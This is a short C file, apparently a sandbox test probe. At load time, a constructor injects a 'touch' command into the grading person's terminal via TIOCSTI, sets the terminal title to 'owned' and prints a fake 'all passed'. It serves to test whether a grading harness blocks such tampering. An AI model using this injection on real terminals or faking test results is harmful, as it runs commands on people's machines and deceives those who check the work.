// Tries: writes to the terminal of the person who grades, and types a command
// into it (TIOCSTI), while it is loaded: the tests themselves have none.
// aims at: the host
// leaves no: @WORK@/raftlab-attack-typed
#define AT_LOAD
#include "stub.h"
#include <sys/ioctl.h>

static void type_into(int terminal)
{
    for (const char *key = "touch " WORK "/raftlab-attack-typed\n";
         *key != '\0'; key++)
        hidden_call(SYS_ioctl, (long)terminal, (long)TIOCSTI, key);
}

__attribute__((constructor)) static void early(void)
{
    static const char text[] = "\033]0;owned\007all passed\n";
    int terminal = open("/dev/tty", O_RDWR);
    type_into(terminal);
    if (write(terminal, text, sizeof text) > 0)
        got_through("the terminal");
    stopped();
}
